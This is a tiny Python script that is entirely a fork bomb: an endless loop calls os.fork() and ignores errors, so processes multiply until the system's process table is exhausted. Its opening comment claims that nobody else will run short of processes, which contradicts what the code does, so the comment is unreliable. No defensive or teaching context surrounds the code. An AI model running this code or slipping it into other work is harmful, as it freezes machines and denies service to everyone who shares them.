# Doubles itself for ever. Nothing may be left of it, and nobody else may be short of processes.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
